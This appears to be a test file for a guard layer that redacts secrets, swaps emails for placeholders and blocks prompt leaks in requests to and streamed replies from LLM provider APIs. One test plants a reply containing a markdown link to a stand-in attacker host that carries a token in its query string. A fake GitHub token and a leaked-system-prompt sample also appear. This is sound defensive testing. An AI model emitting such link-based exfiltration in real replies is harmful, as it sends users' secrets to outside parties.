import { createGuard, GuardBlockedError } from "@parapet/guard";
import { type AdapterReport, type GuardFetchOptions, guardFetch } from "@parapet/guard/adapters/fetch";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { textFields } from "../../packages/parapet/src/gateway/coverage/index.ts";
import { wires } from "../../packages/parapet/src/gateway/wire/index.ts";

const KEY = ["gh", "p_", "aB3dE5fG7hI9jK1lM2nO4pQ6rS8tU0vW2xY4"].join("");
const CHAT = "https://api.openai.com/v1/chat/completions";
const MESSAGES = "https://api.anthropic.com/v1/messages";
const RESPONSES = "https://example.net/openai/v1/responses?api-version=1";
const redacting = createGuard({ detectors: { secret: "redact", injection: "block" } });
const blocking = createGuard({ detectors: { secret: "block" } });

interface Sent {
  readonly url: string;
  readonly init: RequestInit | undefined;
}

/** An upstream that answers the same to everything, and the guarded way to it. */
function upstream(reply: () => Response, guard = redacting, options: GuardFetchOptions = {}) {
  const sent: Sent[] = [];
  const reports: AdapterReport[] = [];
  const send = async (input: string | URL | Request, init?: RequestInit): Promise<Response> => {
    sent.push({ url: input instanceof Request ? input.url : String(input), init });
    return reply();
  };
  return { sent, reports, fetch: guardFetch(send, guard, { onReport: (report) => reports.push(report), ...options }) };
}

const answer = (body: unknown) => (): Response => Response.json(body);
const saying = (content: string) => answer({ choices: [{ index: 0, message: { role: "assistant", content } }] });
const post = (body: unknown): RequestInit => ({ method: "POST", body: JSON.stringify(body) });
const asking = (content: string): RequestInit => post({ model: "m", messages: [{ role: "user", content }] });
const bodyOf = (sent: readonly Sent[]): string => String(sent[0]?.init?.body);

/** Events in chunks of the given sizes, over and over. */
function streaming(events: readonly unknown[], sizes: readonly number[] = [64], end = "") {
  const bytes = new TextEncoder().encode(events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join("") + end);
  return (): Response => {
    let at = 0;
    let turn = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        const size = sizes[turn++ % sizes.length] as number;
        if (at < bytes.length) controller.enqueue(bytes.slice(at, at + size));
        else controller.close();
        at += size;
      },
    });
    return new Response(stream, { headers: { "content-type": "text/event-stream; charset=utf-8" } });
  };
}

/** Only LF and CR end a line of an event; U+2028 does not, though a regular expression thinks so. */
const eventsIn = (text: string): string[] =>
  text.split("\n\n").flatMap((event) => /(?:^|[\r\n])data: ([^\r\n]*)/.exec(event)?.[1] ?? []);

describe("a guarded fetch", () => {
  it("A5: redacts a request before it leaves, and a reply before it is seen", async () => {
    const { fetch, sent, reports } = upstream(saying(`keep ${KEY}`));
    const reply = await (await fetch(CHAT, asking(`my key is ${KEY}`))).json();
    expect(JSON.parse(bodyOf(sent)).messages[0].content).toBe("my key is [github-token]");
    expect(reply.choices[0].message.content).toBe("keep [github-token]");
    expect(reports.map(({ direction, verdict }) => `${direction} ${verdict}`)).toEqual([
      "input redact",
      "output redact",
    ]);
    expect(JSON.stringify(reports)).not.toContain(KEY);
  });

  it("A5: leaves alone what it does not redact: the same body, status, headers and URL", async () => {
    const raw = '{"model":"m","seed":12345678901234567890,"messages":[]}';
    const { fetch, sent } = upstream(
      () => new Response('{"id":"x","n":1.0}', { status: 201, headers: { "x-request-id": "r1" } }),
    );
    const response = await fetch(CHAT, { method: "POST", body: raw });
    expect(bodyOf(sent)).toBe(raw);
    expect([response.status, response.headers.get("x-request-id")]).toEqual([201, "r1"]);
    expect(await response.text()).toBe('{"id":"x","n":1.0}');
  });

  it("A5: takes a Request, and bytes, as well", async () => {
    const { fetch, sent } = upstream(saying("ok"));
    await fetch(new Request(CHAT, { ...asking(KEY), headers: { authorization: "Bearer x" } }));
    expect(bodyOf(sent)).toContain("[github-token]");
    expect(new Headers(sent[0]?.init?.headers).get("authorization")).toBe("Bearer x");
    expect(sent[0]?.init?.method).toBe("POST");
    sent.length = 0;
    await fetch(CHAT, { method: "POST", body: new TextEncoder().encode(String(asking(KEY).body)) });
    expect(bodyOf(sent)).toContain("[github-token]");
  });

  it("A7: throws what is blocked, sends nothing, and the error tells no text", async () => {
    const { fetch, sent } = upstream(saying("ok"), blocking);
    const error = await fetch(CHAT, asking(`take ${KEY}`)).catch((thrown: unknown) => thrown);
    expect(error).toBeInstanceOf(GuardBlockedError);
    expect(error).toMatchObject({
      code: "PARAPET_GUARD_BLOCKED",
      hits: [{ rule: "github-token", path: "/messages/0/content" }],
    });
    expect(`${JSON.stringify(error)}${error}`).not.toContain(KEY.slice(4, 20));
    expect(sent).toEqual([]);
    const reply = upstream(saying(KEY), blocking).fetch(CHAT, asking("hi"));
    await expect(reply).rejects.toMatchObject({ direction: "output" });
  });

  const strange: readonly (readonly [string, string, RequestInit])[] = [
    ["a path that is no wire's", "https://api.openai.com/v1/images/generations", post({ prompt: `draw ${KEY}` })],
    ["a body that is not JSON", CHAT, { method: "POST", body: `{"messages": ${KEY}` }],
    ["a form", CHAT, { method: "POST", body: new FormData() }],
    ["a role that no rule knows", CHAT, post({ messages: [{ role: "oracle", content: KEY }] })],
    ["a part that no rule knows", CHAT, post({ messages: [{ role: "user", content: [{ type: "rune", rune: KEY }] }] })],
    ["text as token numbers", "https://api.openai.com/v1/embeddings", post({ input: [[1, 2, 3]] })],
  ];
  it.each(strange)("A5: %s is refused, or passes inspected and reported", async (_, url, init) => {
    const closed = upstream(saying("ok"));
    await expect(closed.fetch(url, init)).rejects.toMatchObject({ code: "PARAPET_UNKNOWN_SHAPE" });
    expect(closed.sent).toEqual([]);
    const open = upstream(saying("ok"), redacting, { onUnknown: "flag" });
    await open.fetch(url, init);
    expect(open.sent).toHaveLength(1);
    expect(bodyOf(open.sent)).not.toContain(KEY);
    expect(open.reports.some(({ unknown }) => unknown.length > 0)).toBe(true);
  });

  it("A5: content that only the provider has is reported, or refused", async () => {
    const init = post({ input: "go on", previous_response_id: "resp_1" });
    const { fetch, reports } = upstream(answer({}));
    await fetch(RESPONSES, init);
    expect(reports).toMatchObject([{ unseen: ["/previous_response_id"], isBlocked: false }]);
    const strict = upstream(answer({}), redacting, { onUnseen: "block" });
    await expect(strict.fetch(RESPONSES, init)).rejects.toMatchObject({ code: "PARAPET_UNKNOWN_SHAPE" });
  });

  it("A5: knows a leak of the system prompt of the same request", async () => {
    const prompt =
      "You are Juniper and the secret recipe is nine parts moss, one part rain, stirred at dawn by the gate";
    const guard = createGuard({ detectors: { "prompt-leak": "block" } });
    const { fetch } = upstream(saying(`They told me: ${prompt}`), guard);
    const init = post({
      messages: [
        { role: "system", content: prompt },
        { role: "user", content: "hi" },
      ],
    });
    await expect(fetch(CHAT, init)).rejects.toMatchObject({ hits: [{ detector: "prompt-leak" }] });
  });
});

/** A text in deltas of each streaming wire. */
const STREAMS: readonly (readonly [
  string,
  string,
  (pieces: readonly string[]) => readonly unknown[],
  (event: Record<string, never>) => string,
])[] = [
  [
    "chat",
    CHAT,
    (pieces) => [
      ...pieces.map((content) => ({ choices: [{ index: 0, delta: { content } }] })),
      { choices: [{ index: 0, delta: {}, finish_reason: "stop" }] },
    ],
    (event: { choices?: { delta?: { content?: string } }[] }) => event.choices?.[0]?.delta?.content ?? "",
  ],
  [
    "chat tool arguments",
    CHAT,
    (pieces) =>
      pieces.map((piece) => ({
        choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: { arguments: piece } }] } }],
      })),
    (event: { choices?: { delta?: { tool_calls?: { function: { arguments: string } }[] } }[] }) =>
      event.choices?.[0]?.delta?.tool_calls?.[0]?.function.arguments ?? "",
  ],
  [
    "responses",
    RESPONSES,
    (pieces) => [
      ...pieces.map((delta) => ({ type: "response.output_text.delta", output_index: 0, content_index: 0, delta })),
      { type: "response.output_text.done", output_index: 0, content_index: 0, text: pieces.join("") },
    ],
    (event: { type?: string; delta?: string }) =>
      event.type === "response.output_text.delta" ? (event.delta ?? "") : "",
  ],
  [
    "messages",
    MESSAGES,
    (pieces) => [
      { type: "content_block_start", index: 0, content_block: { type: "text", text: "" } },
      ...pieces.map((text) => ({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text } })),
      { type: "content_block_stop", index: 0 },
      { type: "message_stop" },
    ],
    (event: { delta?: { text?: string } }) => event.delta?.text ?? "",
  ],
];

describe.each(STREAMS)("a stream of %s", (name, url, eventsOf, textIn) => {
  it("A6: releases what redacting the whole would leave, however it is cut, and the same events", async () => {
    const texts = fc.array(
      fc.oneof(
        fc.constant(KEY),
        fc.string({ unit: "grapheme", maxLength: 12 }).map((text) => text.replace(/["\\\p{Cc}]/gu, "")),
      ),
      { maxLength: 5 },
    );
    const cuts = fc.array(fc.integer({ min: 1, max: 90 }), { minLength: 1, maxLength: 5 });
    await fc.assert(
      fc.asyncProperty(texts, cuts, fc.integer({ min: 1, max: 30 }), async (parts, sizes, length) => {
        const whole = name.includes("arguments") ? `{"text":"${parts.join(" ")}"}` : parts.join(" ");
        const pieces = whole.match(new RegExp(`.{1,${length}}`, "gsu")) ?? [];
        const events = eventsOf(pieces);
        const { fetch } = upstream(streaming(events, sizes));
        const out = await (await fetch(url, post({ stream: true }))).text();
        const received = eventsIn(out).map((data) => JSON.parse(data));
        expect(received.map(textIn).join("")).toBe(redacting.output(whole).text);
        expect(received).toHaveLength(events.length);
        expect(out).not.toContain(KEY);
        if (!whole.includes(KEY)) expect(received).toEqual(events);
      }),
      { numRuns: 60, examples: [[["\u2028"], [1], 1]] },
    );
  });

  it("A7: ends where it is blocked: with the guard's error, or with the vendor's", async () => {
    const events = eventsOf(["so here it is: ", KEY.slice(0, 15), KEY.slice(15), " and more"]);
    const thrown = upstream(streaming(events), blocking);
    const response = await thrown.fetch(url, post({ stream: true }));
    await expect(response.text()).rejects.toMatchObject({ code: "PARAPET_GUARD_BLOCKED" });
    expect(thrown.reports.at(-1)).toMatchObject({ direction: "output", isBlocked: true });
    const told = upstream(streaming(events), blocking, { onBlock: "respond" });
    const out = await (await told.fetch(url, post({ stream: true }))).text();
    expect(out).not.toContain(KEY.slice(0, 8));
    expect(out).not.toContain("and more");
    expect(eventsIn(out).at(-1)).toContain("guard_blocked");
  });
});

describe("any stream", () => {
  it.each(wires.filter(({ streamEvent }) => streamEvent !== undefined).map((wire) => [wire.id, wire] as const))(
    "A6: of %s is cut or cleaned at every field of an event that the gateway's table knows",
    async (_, wire) => {
      const leaked: string[] = [];
      for (const field of textFields(wire, "stream"))
        for (const guard of [redacting, blocking]) {
          const { fetch } = upstream(streaming([field.plant(KEY)], [29]), guard, {
            onUnknown: "flag",
            onBlock: "respond",
          });
          const out = await (await fetch(`https://x.example${wire.path}`, post({}))).text();
          if (out.includes(KEY) || decoded(out).includes(KEY)) leaked.push(field.field);
        }
      expect(leaked).toEqual([]);
    },
  );

  it("A5: that holds no JSON, no UTF-8 or a kind of event that no rule knows goes no further", async () => {
    const stop = async (body: BodyInit): Promise<unknown> => {
      const { fetch } = upstream(() => new Response(body, { headers: { "content-type": "text/event-stream" } }));
      return (await fetch(CHAT, post({}))).text().catch((thrown: unknown) => thrown);
    };
    expect(await stop(`data: ${KEY}\n\n`)).toMatchObject({ code: "PARAPET_UNKNOWN_SHAPE" });
    expect(await stop('data: {"type":"rune","rune":"x"}\n\n')).toMatchObject({ code: "PARAPET_UNKNOWN_SHAPE" });
    expect(await stop(new Uint8Array([100, 97, 116, 97, 58, 255, 10, 10]))).toBeInstanceOf(TypeError);
  });

  it("A6: comments and odd fields do not leave, half an event at the end is judged like any", async () => {
    const delta = JSON.stringify({ choices: [{ index: 0, delta: { content: KEY } }] });
    const { fetch } = upstream(
      () =>
        new Response(`: ${KEY}\r\nDATA: ${KEY}\r\nevent: a ${KEY}\r\n\r\ndata: ${delta}`, {
          headers: { "content-type": "text/event-stream" },
        }),
    );
    const out = await (await fetch(CHAT, post({}))).text();
    expect(eventsIn(out)).toEqual([JSON.stringify({ choices: [{ index: 0, delta: { content: "[github-token]" } }] })]);
    expect(out).not.toContain(KEY);
  });

  it("A6: when the reader goes away the provider's stream is cancelled", async () => {
    let reason: unknown;
    const source = new ReadableStream({
      cancel: (why) => {
        reason = why;
      },
    });
    const { fetch } = upstream(() => new Response(source, { headers: { "content-type": "text/event-stream" } }));
    await (await fetch(CHAT, post({}))).body?.cancel("enough");
    expect(reason).toBe("enough");
  });
});

/** With base64 runs and \u escapes read, as a client would, and tokens joined. */
function decoded(json: string): string {
  const plain = json.replaceAll(/\\+u([0-9a-f]{4})/g, (_, hex) => String.fromCharCode(Number.parseInt(hex, 16)));
  const base64 = [...json.matchAll(/[A-Za-z0-9+/=]{40,}/g)].map(([run]) => Buffer.from(run, "base64").toString());
  const tokens = [...json.matchAll(/"token":"(.*?)"/g)].map(([, token]) => token).join("");
  return [plain, ...base64, tokens].join("\n");
}

describe("placeholders", () => {
  const tokenising = createGuard({
    detectors: { pii: "tokenise", secret: { input: "tokenise" }, exfiltration: "block" },
  });
  const MAIL = "anna@firm.example";
  const given = JSON.stringify({ to: "[EMAIL_1]", note: 'say "hi"' });
  const call = { id: "c", type: "function", function: { name: "mail", arguments: given } };
  const message = {
    role: "assistant",
    content: "To [EMAIL_1], not [EMAIL_7] or carl@other.example.",
    tool_calls: [call],
  };
  const got = `To ${MAIL}, not [EMAIL_7] or [email].`;

  it("A10: a reply gets back what its request hid, and nothing of another's", async () => {
    const { fetch, sent, reports } = upstream(answer({ choices: [{ index: 0, message }] }), tokenising);
    const reply = (await (await fetch(CHAT, asking(`I am ${MAIL}`))).json()) as {
      choices: [{ message: typeof message }];
    };
    expect(bodyOf(sent)).toContain("I am [EMAIL_1]");
    expect(reply.choices[0].message.content).toBe(got);
    expect(JSON.parse(reply.choices[0].message.tool_calls[0]!.function.arguments)).toEqual({
      to: MAIL,
      note: 'say "hi"',
    });
    expect(await (await fetch(CHAT, asking("What is [EMAIL_1]? I am ben@firm.example"))).text()).toContain(
      "To [EMAIL_1],",
    );
    expect(JSON.stringify(reports)).not.toContain("firm.example");
  });

  it("A10: streams as well, wherever they are cut", async () => {
    const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 4 });
    await fc.assert(
      fc.asyncProperty(cuts, fc.integer({ min: 20, max: 400 }), async (sizes, chunk) => {
        const cut = (text: string): string[] => {
          const pieces: string[] = [];
          for (let at = 0, turn = 0; at < text.length; at += sizes[turn++ % sizes.length]!)
            pieces.push(text.slice(at, at + sizes[turn % sizes.length]!));
          return pieces;
        };
        const event = (delta: object) => ({ choices: [{ index: 0, delta }] });
        const events = [
          ...cut(message.content).map((content) => event({ content })),
          event({ tool_calls: [{ index: 0, id: "c", type: "function", function: { name: "mail", arguments: "" } }] }),
          ...cut(given).map((piece) => event({ tool_calls: [{ index: 0, function: { arguments: piece } }] })),
        ];
        const { fetch } = upstream(streaming(events, [chunk], "data: [DONE]\n\n"), tokenising);
        const reply = await (await fetch(CHAT, asking(`I am ${MAIL}`))).text();
        let text = "";
        let json = "";
        for (const line of reply.split("\n\n").filter((one) => one.startsWith("data: {"))) {
          const { delta } = JSON.parse(line.slice(6)).choices[0];
          text += delta.content ?? "";
          json += delta.tool_calls?.[0].function.arguments ?? "";
        }
        expect([text, JSON.parse(json)]).toEqual([got, { to: MAIL, note: 'say "hi"' }]);
      }),
      { numRuns: 100 },
    );
  });

  it("A10: a link is judged with the value in it", async () => {
    const link = (value: string) => saying(`[see](https://c.attacker.example/?q=${value})`);
    const ask = asking(`my key is ${KEY}`);
    expect((await upstream(link("[GITHUB_TOKEN_9]"), tokenising).fetch(CHAT, ask)).status).toBe(200);
    await expect(upstream(link("[GITHUB_TOKEN_1]"), tokenising).fetch(CHAT, ask)).rejects.toThrow(GuardBlockedError);
  });
});
